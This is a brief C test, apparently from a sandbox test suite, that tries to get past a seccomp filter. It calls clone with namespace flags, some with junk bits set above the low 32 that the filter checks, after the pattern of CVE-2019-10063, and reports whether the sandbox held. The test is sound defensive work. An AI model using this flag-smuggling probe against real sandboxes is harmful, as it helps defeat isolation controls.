// title: clone with each namespace flag, also with garbage above the 32 bits that count
// wall: seccomp_clone nested_namespaces
// gvisor: seccomp_clone
// source: CVE-2019-10063: compared as 64 bits, used as 32
#include "attack.h"

#include <sched.h>
#include <signal.h>
#include <sys/wait.h>

int
main(void)
{
    static const unsigned long kinds[] = { CLONE_NEWUSER, CLONE_NEWUSER | CLONE_NEWNS,
                                           CLONE_NEWUSER | CLONE_NEWPID, CLONE_NEWNET,
                                           CLONE_NEWUSER | CLONE_NEWNET };

    for (unsigned i = 0; i < sizeof(kinds) / sizeof(*kinds); i++) {
        for (int garbage = 0; garbage < 2; garbage++) {
            unsigned long flags = kinds[i] | SIGCHLD | (garbage ? 0x5a5a5a5a00000000ul : 0);
            long pid = syscall(SYS_clone, flags, 0, 0, 0, 0);

            if (pid == 0) {
                _exit(0);
            }
            if (pid > 0) {
                waitpid((pid_t)pid, NULL, 0);
                escaped("flags %#lx", flags);
            }
        }
    }
    held("%s", strerror(errno));
}
